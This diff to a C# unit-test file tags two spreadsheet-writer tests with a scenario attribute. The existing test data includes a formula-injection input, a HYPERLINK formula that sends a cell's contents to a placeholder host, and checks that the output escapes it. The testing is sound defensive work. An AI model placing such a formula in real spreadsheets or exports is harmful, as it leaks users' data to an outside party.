@@ -11,6 +11,7 @@ public sealed class SpreadsheetTests : IDisposable
 
     public void Dispose() => _rig.Dispose();
 
+    [Scenario("S31")]
     [Theory]
     [InlineData("\"=HYPERLINK(\"\"http://x.example/?\"\"&A1)\"", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",")]
     [InlineData("=1+1", "'=1+1,")]
@@ -28,6 +29,7 @@ public sealed class SpreadsheetTests : IDisposable
         Assert.Contains(",-", line[written.Length..], StringComparison.Ordinal);
     }
 
+    [Scenario("S31")]
     [Fact]
     public void S31_A_written_symbol_reads_back_the_same()
     {
